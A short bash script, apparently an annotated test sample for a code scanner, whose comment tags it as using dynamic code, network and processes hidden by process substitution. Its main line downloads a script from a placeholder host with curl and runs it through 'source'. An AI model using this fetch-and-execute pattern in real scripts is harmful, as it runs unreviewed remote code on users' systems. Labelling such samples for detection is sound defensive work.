#!/bin/bash
# capabilities: dynamic-code, network, processes; hidden by: process substitution
source <(curl -s http://example.invalid/env.sh)
echo "done"
